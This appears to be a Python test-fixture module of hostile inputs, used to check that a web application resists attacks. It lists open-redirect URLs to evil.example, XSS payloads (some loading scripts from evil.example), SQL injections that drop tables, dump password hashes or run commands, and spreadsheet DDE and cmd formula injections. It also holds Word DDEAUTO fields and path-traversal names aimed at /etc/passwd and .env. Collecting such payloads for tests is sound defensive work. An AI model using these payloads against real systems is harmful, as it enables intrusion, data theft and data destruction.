"""What attackers type (reliability.md §2.2, §2.3)."""

HOME = "evil.example"

AWAY = tuple(
    target.replace("EVIL", HOME)
    for target in (
        "//EVIL", "///EVIL", "////EVIL/%2f..", "/\\EVIL", "\\\\EVIL", "\\/EVIL", "/\\/EVIL", "/x\\..\\EVIL", "https://EVIL", "http:EVIL", "HTTPS:///EVIL",
        "http:///EVIL", "https:/EVIL", "https:\\\\EVIL", "//EVIL@localhost", "//localhost@EVIL", "//localhost:80@EVIL", "//localhost%40EVIL", "//EVIL%00.localhost",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,EVIL", "vbscript:x", "mailto:a@EVIL", "ftp://EVIL",
        "EVIL", "@EVIL", ".EVIL", "?verder=//EVIL", "#//EVIL", "", " //EVIL", "/ /EVIL", "/\t/EVIL", "/\n/EVIL", "/\r/EVIL", "\t//EVIL", "\n//EVIL", "/\x0b/EVIL", "/\x0c/EVIL",
        "/ok\r\nLocation: //EVIL", "/ok\r\nSet-Cookie: a=EVIL", "/ok%0d%0aLocation://EVIL\r", "/ok\x00//EVIL", "/ok\x7f//EVIL", "/\u00a0/EVIL", "\u2215\u2215EVIL", "／／EVIL",
        "/\u2028//EVIL", "//EVIL\u3002com", "//ⓔvil.example", "//xn--evil.example", "/.//EVIL\\", "/..//EVIL\\", "//[::1]", "//0x7f.1/EVIL", "//2130706433", "/" + "EVIL" * 500,
    )
)  # fmt: skip
"""Addresses that lead, or might be read as leading, to another site."""

MARK = "xss"
"""The name of the function that must never be called; `SCRIPTS` call it in every way there is."""
SCRIPTS = (
    "<script>xss()</script>", "<ScRiPt>xss()</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/x>xss()</script>", "</script><script>xss()</script>",
    "<img src=x onerror=xss()>", "<img src=x:x onerror=&#120;ss()>", "<img/src='x'onerror=xss()>", "<IMG \"\"\"><SCRIPT>xss()</SCRIPT>\">", "<svg onload=xss()>", "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>", "<svg><animate onbegin=xss() attributeName=x>", "<svg><a xlink:href=javascript:xss()><text y=9>x</text></a>", "<math><mi xlink:href=javascript:xss()>x",
    "<body onload=xss()>", "<iframe srcdoc='<script>parent.xss()</script>'></iframe>", "<iframe src=javascript:xss()>", "<object data=javascript:xss()>", "<embed src=javascript:xss()>",
    "<a href=javascript:xss()>x</a>", "<a href='java&#10;script:xss()'>x</a>", "<form action=javascript:xss()><button>x", "<button formaction=javascript:xss()>x", "<isindex action=javascript:xss()>",
    "<input autofocus onfocus=xss()>", "<select autofocus onfocus=xss()>", "<textarea autofocus onfocus=xss()>", "<details open ontoggle=xss()>", "<video><source onerror=xss()>", "<audio src onerror=xss()>",
    "<marquee onstart=xss()>", "<meta http-equiv=refresh content='0;url=javascript:xss()'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>", "<div style=width:expression(xss())>", "<p onclick=xss() style=position:fixed;inset:0>x", "<p onmouseover=xss()>x", "<p/onpointerenter=xss()>x",
    "\" onfocus=xss() autofocus x=\"", "' onfocus=xss() autofocus x='", "\"><script>xss()</script>", "'><script>xss()</script>", "\"><img src=x onerror=xss()>", "--><script>xss()</script>", "]]><script>xss()</script>",
    "</title><script>xss()</script>", "</textarea><script>xss()</script>", "</style><script>xss()</script>", "</option></select><script>xss()</script>", "</template><script>xss()</script>", "</noscript><script>xss()</script>",
    "{{ 7*7 }}{{ config }}", "{% import 'os' as x %}", "${xss()}", "#{xss()}", "<%= xss() %>", "{{constructor.constructor('xss()')()}}", "[[${xss()}]]", "{php}xss(){/php}",
    "javascript:xss()//", "\\u003cscript\\u003exss()\\u003c/script\\u003e", "\\x3cscript\\x3exss()\\x3c/script\\x3e", "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "%3Cscript%3Exss()%3C/script%3E",
    "＜script＞xss()＜/script＞", "<scr<script>ipt>xss()</scr</script>ipt>", "<<script>xss();//<</script>", "<script\x0b>xss()</script>", "<img src=`x`onerror=xss()>", "\u2028xss()\u2029", "<x hx-on:load=xss()>", "<x hx-get=/ hx-trigger=load>",
    "<x data-hx-get=//evil.example hx-trigger=load>", "<dialog open onclose=xss()><form method=dialog><button autofocus>", "<plaintext>", "<xmp><script>xss()</script>", "<!--<img src='--><img src=x onerror=xss()>'>",
)  # fmt: skip
"""Text that runs in a browser where it is put into a page unescaped, in a tag, an attribute, a script or a style."""

SQL = (
    "'", "''", "\"", "`", "\\", "';", "' --", "' #", "'/*", "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "') OR ('1'='1", "' OR ''='", "1 OR 1=1", "1) OR (1=1", "1; DROP TABLE account; --",
    "'; DROP TABLE account; --", "'; DELETE FROM account WHERE 'a'='a", "'; UPDATE account SET roles='[\"admin\"]'; --", "' UNION SELECT NULL --", "' UNION SELECT email, password_hash FROM account --",
    "1 UNION SELECT 1,2,3", "' AND 1=(SELECT COUNT(*) FROM account) --", "' AND (SELECT 1 FROM pg_sleep(3)) --", "'; SELECT pg_sleep(3); --", "1; SELECT pg_sleep(3)", "' || pg_sleep(3) --",
    "' AND randomblob(900000000) --", "1 AND 1=like('ABC', upper(hex(randomblob(90000000))))", "'; ATTACH DATABASE '/tmp/x.db' AS x; --", "'; PRAGMA writable_schema=1; --", "' || (SELECT sqlite_version()) || '",
    "load_extension('x')", "'; COPY account TO PROGRAM 'id'; --", "'; COPY account TO '/tmp/x'; --", "%", "_", "%%", "%s", "%(x)s", ":x", "?", "$1", "{0}", "ORDER BY 1", "1,2", "id DESC", "title; --",
    "0x27", "CHAR(39)", "'||'", "' LIKE '%", "[1]", "{\"$ne\": null}", "\u02bc OR 1=1", "\uff07 OR 1=1", "\\' OR 1=1 --", "%27 OR 1=1", "%2527", "\x1a", "1e309", "-1", "NaN", "NULL", "null", "true", "1/0",
)  # fmt: skip
"""Text that changes a statement where it is put into one."""

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(\"https://evil.example\",\"//x\")", "=IMAGE(\"https://evil.example/x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  =1+1", "\u00a0=1+1", "'=1+1", "\"=1+1", "\"\"=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\x00=1+1", "\ufeff=1+1",
    "\u200b=1+1", "x\n=1+1", "x;=1+1", "x,=1+1", "x\t=1+1", "x\";=1+1", "x\",\"=1+1", "\r\n=1+1", "-2+3+cmd|'/C calc'!A0", "=1+1;", "|calc", "%0A=1+1", "=\"a\"&\"b\"", "={1,2}", "=A1", "=-1", "=+1", "+=1", "-=1", "@=1", "=@1",
    "=1+1\t", "=SUM(1;2)", "=RTD(\"x\",,\"y\")", "=REGISTER.ID(\"x\",\"y\")", "=CALL(\"x\")", "=EXEC(\"calc\")", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "=MSEXCEL|'\\..\\..\\cmd.exe'!x", "=rundll32|'x'!A", "−1+1", "‐1+1", "﹦1+1", "﹢1+1",
)  # fmt: skip
"""Text that a spreadsheet takes for a formula."""

WORDS = (
    "gewone tekst", "é € – ’ “ ” … ß Ĳ", "👩‍👩‍👧 🏛", "\u202eomgekeerd\u202c", "e\u0301\u0302", "<w:p/>", "</w:t></w:r></w:p><w:p><w:r><w:t>ingevoegd", "&amp; & < > \" '", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e \"x\">]>&e;",
    "{{ 7*7 }}", "{% for x in y %}", "{# x #}", "${x}", "{ DDEAUTO c:\\\\windows\\\\cmd.exe }", "{ INCLUDETEXT \"//evil.example/x\" }", "{ HYPERLINK \"https://evil.example\" }", "DDEAUTO c:\\cmd", "\x13 DATE \x15", "\x00\x01\x02\x1f", "\ud800", "\udfff\ud800", "\ufffe\uffff",
    "a\tb", "a\nb", "a\r\nb", "a\rb", "a\x0bb", "a\x0cb", "a\u2028b", "  spaties  ", "", " ", "x" * 5000, "%PDF-1.7", "\\rtf1", "[Content_Types].xml", "../../etc/passwd", "file:///etc/passwd", "\\\\evil.example\\share", "w:instrText", "xml:space",
)  # fmt: skip
"""Text that damages a Word document where it is put into one, or is hard to keep as it was."""

NAMES = (
    "../x", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "C:x", "\\\\host\\share", "//x", "%2e%2e%2fx", "%2e%2e/x", "..%2fx", "..%5cx", "..%252fx", "....//x", "..;/x", ".", "..", "", "x\x00.css", "theme.css\x00", "theme.css/", "theme.css/..", "./theme.css",
    "theme.css%00.png", "THEME.CSS", "theme.css ", "theme.css.", "theme.css::$DATA", "con", "nul.txt", "theme\u202esc.ss", "the\u0301me.css", "ｔheme.css", "x" * 300, "secret.key", "risico.db", "risico.db-wal", "config.toml", "huisstijl.docx", ".env", ".git/config",
)  # fmt: skip
"""File names that lead out of a folder, or to a file that is none of the visitor's business."""
